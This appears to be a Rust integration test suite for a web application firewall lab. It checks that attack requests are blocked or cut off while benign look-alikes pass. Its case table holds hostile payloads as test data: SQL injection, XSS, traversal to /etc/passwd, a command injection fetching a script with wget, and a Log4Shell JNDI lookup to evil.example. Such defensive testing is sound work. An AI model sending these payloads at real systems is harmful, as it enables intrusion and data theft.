//! Attacks are answered in the server's place, and the server never sees the end of one.

use std::net::SocketAddr;

use anyhow::{Context as _, Result, ensure};
use xtask::lab::{origin::End, wait::wait_for};

use crate::support::{
    SOON,
    engine::RunningEngine,
    request::{Answer, curl, upload},
    site::{self, Site},
};

/// A path, and arguments for curl.
type Request = (&'static str, &'static [&'static str]);

/// An attack, and a request that looks much like it and is none.
struct Case {
    family: &'static str,
    attack: Request,
    benign: Request,
}

const CHUNKED: &str = "Transfer-Encoding: chunked";

/// Each family by the query, the path or a header; bodies plain and in chunks.
const CASES: &[Case] = &[
    Case {
        family: "sqli",
        attack: ("/1k?id=1'+UNION+SELECT+password+FROM+users--", &[]),
        benign: ("/1k?q=the+union+may+select+a+speaker", &[]),
    },
    Case {
        family: "xss",
        attack: ("/1k?q=%3Cscript%3Ealert(1)%3C/script%3E", &[]),
        benign: ("/1k?q=script+of+the+play", &[]),
    },
    Case {
        family: "traversal",
        attack: ("/../../../../etc/passwd", &[]),
        benign: ("/1k?file=images/logo.png", &[]),
    },
    Case {
        family: "cmdi",
        attack: ("/1k?host=a;wget%20http://x/y.sh", &[]),
        benign: ("/1k?host=a.example&note=wget+is+a+tool", &[]),
    },
    Case {
        family: "log4shell",
        attack: ("/1k", &["-H", "X-Api-Version: ${jndi:ldap://evil.example/a}"]),
        benign: ("/1k", &["-H", "X-Api-Version: 2.17"]),
    },
    Case {
        family: "scanner",
        attack: ("/1k", &["-A", "sqlmap/1.7.2#stable (https://sqlmap.org)"]),
        benign: ("/1k", &["-A", "Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0"]),
    },
    Case {
        family: "protocol",
        attack: ("/1k", &["-H", "Content-Length: 0", "-H", "Content-Length: 5"]),
        benign: ("/1k", &["-H", "Content-Length: 0"]),
    },
    Case {
        family: "sqli",
        attack: (
            "/sink",
            &["--data", "user=a&id=1'+UNION+SELECT+password+FROM+users"],
        ),
        benign: ("/sink", &["--data", "user=O'Brien&note=union"]),
    },
    Case {
        family: "xss",
        attack: (
            "/sink",
            &["-H", CHUNKED, "--data", "text=<script>alert(1)</script>"],
        ),
        benign: ("/sink", &["-H", CHUNKED, "--data", "text=a<b"]),
    },
];

/// Sources are not blocked here, so that every attack is judged by itself.
const PATIENT: &str = "reputation.threshold=1000000";

fn send(site: &Site, server: SocketAddr, (path, arguments): Request) -> Result<Answer> {
    curl(&site.lab, server, path, arguments)
}

fn refused(answer: &Answer, engine: &RunningEngine) -> Result<()> {
    ensure!(answer.status == 403, "{answer:?}");
    let id = answer
        .request_id()
        .with_context(|| format!("a request id in {answer:?}"))?;
    wait_for("the request id in the log", SOON, || {
        engine.log().contains(&id).then_some(())
    })
}

/// The recording origin says that the request never ended, and that the connection was cut off.
fn cut_off(site: &Site, answer: &Answer) -> Result<()> {
    let record = site.origin.wait_for_end(answer.local, SOON)?;
    ensure!(record.requests.is_empty(), "a whole request arrived: {record:?}");
    ensure!(record.end == Some(End::Reset), "{record:?}");
    Ok(())
}

/// nginx says that every request it has answered whole was one of the benign ones.
fn only_complete(site: &Site, expected: usize) -> Result<()> {
    let log = wait_for("the benign requests in nginx's log", SOON, || {
        let mut log = site.nginx.access_log().ok()?;
        log.retain(|entry| entry.complete);
        (log.len() >= expected).then_some(log)
    })?;
    ensure!(log.len() == expected, "{log:#?}");
    ensure!(log.iter().all(|entry| entry.status < 400), "{log:#?}");
    Ok(())
}

#[test]
fn every_family_is_answered_403_and_its_benign_twin_passes() -> Result<()> {
    let Some(site) = Site::plain()? else {
        return Ok(());
    };
    let engine = RunningEngine::start(&site.lab, &["engine.on_failure=drop", PATIENT])?;
    for case in CASES {
        for server in site::nginx().into_iter().chain(site::origin()) {
            let context = || format!("{} against {server}: {:?}", case.family, case.attack);
            let answer = send(&site, server, case.attack).with_context(context)?;
            refused(&answer, &engine).with_context(context)?;
            if site::origin().contains(&server) {
                cut_off(&site, &answer).with_context(context)?;
            }
            let answer = send(&site, server, case.benign).with_context(context)?;
            ensure!(answer.status == 200, "{:?}: {answer:?}", case.benign);
        }
    }
    only_complete(&site, CASES.len() * 2)?;
    ensure!(site.origin.complete_requests().len() == CASES.len() * 2);
    let requests = engine.settled_status()?.requests;
    ensure!(requests.block == CASES.len() as u64 * 4, "{requests:?}");
    for case in CASES {
        ensure!(requests.families.contains_key(case.family), "{requests:?}");
    }
    engine.stop()
}

/// Padding in front does not tire the filter, and the end of the body is what is held back.
#[test]
fn an_attack_behind_much_of_a_body_is_found() -> Result<()> {
    let Some(site) = Site::plain()? else {
        return Ok(());
    };
    let engine = RunningEngine::start(&site.lab, &["engine.on_failure=drop", PATIENT])?;
    let pad = format!("pad={}", "a".repeat(300_000));
    let attack = upload(
        &site.lab,
        format!("{pad}&id=1'+UNION+SELECT+password+FROM+users").as_bytes(),
    )?;
    for server in site::origin() {
        let answer = curl(
            &site.lab,
            server,
            "/form",
            &["-H", "Expect:", "--data-binary", &attack],
        )?;
        ensure!(answer.status == 403, "{answer:?}");
        cut_off(&site, &answer)?;
    }
    let benign = upload(&site.lab, format!("{pad}&id=1").as_bytes())?;
    for server in site::origin() {
        let answer = curl(
            &site.lab,
            server,
            "/form",
            &["-H", "Expect:", "--data-binary", &benign],
        )?;
        ensure!(answer.status == 200, "{answer:?}");
    }
    engine.stop()
}

#[test]
fn respond_reset_gives_no_page() -> Result<()> {
    let Some(site) = Site::plain()? else {
        return Ok(());
    };
    let engine = RunningEngine::start(&site.lab, &["response.respond=reset", PATIENT])?;
    for server in site::origin() {
        let answer = send(&site, server, CASES[0].attack)?;
        let error = answer.error.as_deref().unwrap_or_default();
        ensure!(
            answer.status == 0 && error.contains("reset by peer"),
            "{answer:?}"
        );
        cut_off(&site, &answer)?;
    }
    engine.stop()
}

#[test]
fn respond_drop_gives_nothing_to_either_side() -> Result<()> {
    let Some(site) = Site::plain()? else {
        return Ok(());
    };
    let engine = RunningEngine::start(&site.lab, &["response.respond=drop", PATIENT])?;
    for server in site::origin() {
        let (path, _) = CASES[0].attack;
        let answer = curl(&site.lab, server, path, &["--max-time", "2"])?;
        let error = answer.error.as_deref().unwrap_or_default();
        ensure!(answer.status == 0 && error.contains("timed out"), "{answer:?}");
    }
    let records = site.origin.connections();
    ensure!(records.len() == 2, "{records:?}");
    ensure!(
        records
            .iter()
            .all(|record| record.bytes.is_empty() && record.end.is_none()),
        "{records:?}"
    );
    ensure!(engine.status()?.queues[0].injected == 0);
    engine.stop()
}

#[test]
fn detect_mode_decides_and_lets_pass() -> Result<()> {
    let Some(site) = Site::plain()? else {
        return Ok(());
    };
    let engine = RunningEngine::start(&site.lab, &["scoring.mode=detect", "engine.on_failure=drop"])?;
    // The last ones are told by their bodies, which the origin reads.
    for case in CASES.iter().filter(|case| case.family != "protocol") {
        for server in site::origin() {
            let answer = send(&site, server, case.attack)?;
            ensure!(answer.status == 200, "{:?}: {answer:?}", case.attack);
        }
    }
    let sent = (CASES.len() as u64 - 1) * 2;
    let status = engine.wait_for_status("every decision", |status| status.requests.total() >= sent)?;
    ensure!(status.requests.block == sent, "{status:#?}");
    ensure!(status.blocks.used == 0, "nobody is blocked: {status:#?}");
    ensure!(engine.log().contains("block "), "decisions are logged");
    engine.stop()
}
